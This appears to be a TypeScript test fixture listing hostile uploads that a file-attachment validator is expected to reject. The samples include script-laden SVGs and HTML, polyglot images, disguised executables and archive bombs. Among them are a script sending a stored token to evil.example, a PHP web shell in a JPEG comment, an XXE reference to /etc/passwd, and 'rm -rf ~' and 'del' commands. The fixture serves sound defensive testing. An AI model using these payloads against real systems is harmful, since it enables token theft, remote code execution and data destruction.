/** Files somebody might send to do harm, each with what becomes of it. */
import { gzipSync } from 'node:zlib'
import type { AttachmentReason } from '../../server/contract/attachment.ts'
import {
  bmp,
  elf,
  exe,
  flash,
  gif,
  isoMedia,
  javaClass,
  jpeg,
  pdf,
  png,
  shortcut,
  utf16,
  wasm,
  zip,
} from './samples.ts'

export interface HostileFile {
  fileName: string
  fileType: string
  bytes: Buffer<ArrayBuffer>
  reason: AttachmentReason
}

/** What a studio that allows a lot might allow. */
export const allowed = [
  'image/png',
  'image/jpeg',
  'image/gif',
  'image/bmp',
  'image/heic',
  'video/mp4',
  'application/pdf',
  'application/zip',
  'text/plain',
  // A studio's mistake: these are refused all the same.
  'image/svg+xml',
  'text/html',
  'application/java-archive',
]

const script = '<script>fetch("//evil.example/"+localStorage.token)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
const zeros = Buffer.alloc(64 * 1024 * 1024)
const s = (value: string) => Buffer.from(value)

function file(fileName: string, fileType: string, bytes: Buffer<ArrayBuffer>, reason: AttachmentReason): HostileFile {
  return { fileName, fileType, bytes, reason }
}

const mismatch = 'type_mismatch'
const notAllowed = 'type_not_allowed'

export const hostileFiles: Record<string, HostileFile> = {
  'an SVG with a script': file('logo.svg', 'image/svg+xml', s(svg), notAllowed),
  'an SVG called a PNG': file('logo.png', 'image/png', s(svg), mismatch),
  'an SVG behind an XML declaration': file('a.png', 'image/png', s(`<?xml version="1.0"?>\n${svg}`), mismatch),
  'an SVG behind a comment, called text': file('a.txt', 'text/plain', s(`<!-- hello -->${svg}`), mismatch),
  'an SVG behind a page of text': file('a.txt', 'text/plain', s(`${'log line\n'.repeat(500)}${svg}`), mismatch),
  'an SVG in UTF-16': file('a.txt', 'text/plain', utf16(svg), mismatch),
  'an SVG in gzip, called a PNG': file('a.png', 'image/png', gzipSync(svg), mismatch),
  'a page': file('index.html', 'text/html', s(`<!doctype html>${script}`), notAllowed),
  'a page called text': file('notes.txt', 'text/plain', s(`<!DOCTYPE HTML><body>${script}`), mismatch),
  'a page in capitals behind blanks': file('notes.txt', 'text/plain', s(`\n\t  <HTML><BODY>`), mismatch),
  'a page that begins with a link': file(
    'notes.txt',
    'text/plain',
    s('<a href="javascript:alert(1)">free coins</a>'),
    mismatch,
  ),
  'a page behind a byte order mark': file('notes.txt', 'text/plain', s(`\ufeff<html>${script}`), mismatch),
  'a page called a JPEG': file('photo.jpg', 'image/jpeg', s(`<html>${script}`), mismatch),
  'XML with an outside entity': file(
    'a.xml',
    'application/xml',
    s('<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd">'),
    notAllowed,
  ),
  'XML called text': file('a.txt', 'text/plain', s('<?xml version="1.0"?><x/>'), mismatch),
  XHTML: file('a.xhtml', 'application/xhtml+xml', s('<html xmlns="http://www.w3.org/1999/xhtml"/>'), notAllowed),
  JavaScript: file('a.js', 'text/javascript', s('alert(1)'), notAllowed),
  'JavaScript called text by type but not by name': file('a.js', 'text/plain', s('alert(1)'), mismatch),
  'a shell script called text': file('install.txt', 'text/plain', s('#!/bin/sh\nrm -rf ~\n'), mismatch),
  'a batch file called text by type': file('fix.bat', 'text/plain', s('del /q *.*\r\n'), mismatch),
  'a PowerShell script with two endings': file('screenshot.png.ps1', 'text/plain', s('Invoke-Expression $x'), mismatch),
  'PHP in a picture’s comment': file('avatar.jpg', 'image/jpeg', jpeg('<?php system($_GET["c"]); ?>'), mismatch),
  'text with a NUL in it': file('a.txt', 'text/plain', s('hello\0world'), mismatch),
  'text with terminal control characters': file('a.txt', 'text/plain', s('hello\x07\x08\x9b2J'), mismatch),
  'text that is not UTF-8': file('a.txt', 'text/plain', Buffer.from([0x68, 0xc3, 0x28, 0xa0, 0x0a]), mismatch),
  'a program called a PNG': file('cheat.png', 'image/png', exe(), mismatch),
  'a program called what it is': file('cheat.exe', 'application/x-msdownload', exe(), notAllowed),
  'a program called text': file('readme.txt', 'text/plain', exe(), mismatch),
  'a Linux program called a film': file('clip.mp4', 'video/mp4', elf(), mismatch),
  'a Java class called a JPEG': file('a.jpg', 'image/jpeg', javaClass(), mismatch),
  'WebAssembly called a GIF': file('a.gif', 'image/gif', wasm(), mismatch),
  'a Flash film called a PNG': file('a.png', 'image/png', flash(), mismatch),
  'a Windows shortcut called a PDF': file('invoice.pdf', 'application/pdf', shortcut(), mismatch),
  'a Java archive called a zip': file(
    'mod.zip',
    'application/zip',
    zip({ 'META-INF/MANIFEST.MF': 'Main-Class: Evil' }),
    mismatch,
  ),
  'a Java archive called what it is': file(
    'mod.jar',
    'application/java-archive',
    zip({ 'META-INF/MANIFEST.MF': 'Main-Class: Evil' }),
    notAllowed,
  ),
  'an Android package called a zip': file(
    'game.zip',
    'application/zip',
    zip({ 'AndroidManifest.xml': 'x', 'classes.dex': 'dex' }),
    mismatch,
  ),
  'a zip bomb called a PNG': file('bomb.png', 'image/png', zip({ 'zeros.bin': zeros }), mismatch),
  'a zip bomb in the table of a document': file(
    'bomb.png',
    'image/png',
    zip({ '[Content_Types].xml': zeros }),
    mismatch,
  ),
  'a gzip bomb called a film': file('bomb.mp4', 'video/mp4', gzipSync(zeros), mismatch),
  'a picture that goes on as a page': file('a.png', 'image/png', png({ tail: `<html>${script}` }), mismatch),
  'a picture with a script in its comment': file('a.png', 'image/png', png({ comment: script }), mismatch),
  'a picture that is a script too': file('a.gif', 'image/gif', gif(`/*${script}*/=1;alert(1)//`), mismatch),
  'a bitmap that is a page too': file('a.bmp', 'image/bmp', bmp(`<svg onload=alert(1)>`), mismatch),
  'a picture with a page in UTF-16': file(
    'a.png',
    'image/png',
    Buffer.concat([png(), Buffer.from(script, 'utf16le')]),
    mismatch,
  ),
  'a PDF that runs a script, called a PNG': file(
    'a.png',
    'image/png',
    pdf('/OpenAction << /S /JavaScript >>'),
    mismatch,
  ),
  'a PNG called a PDF': file('a.pdf', 'application/pdf', png(), mismatch),
  'a PNG whose name ends in .exe': file('a.exe', 'image/png', png(), mismatch),
  'a PNG whose name ends in .html': file('a.html', 'image/png', png(), mismatch),
  'a PNG whose name hides .exe behind a change of direction': file('photo\u202Egnp.exe', 'image/png', png(), mismatch),
  'a PNG whose name hides .exe behind dots': file('photo.exe. . .', 'image/png', png(), mismatch),
  'a QuickTime film called a HEIC': file('a.heic', 'image/heic', isoMedia('qt'), mismatch),
  'a picture called a film': file('clip.mp4', 'video/mp4', png(), mismatch),
  'nothing but blanks': file('a.txt', 'text/plain', s(' \n \n'), mismatch),
  'a beginning of a PNG and no more': file('a.png', 'image/png', png().subarray(0, 6), mismatch),
}
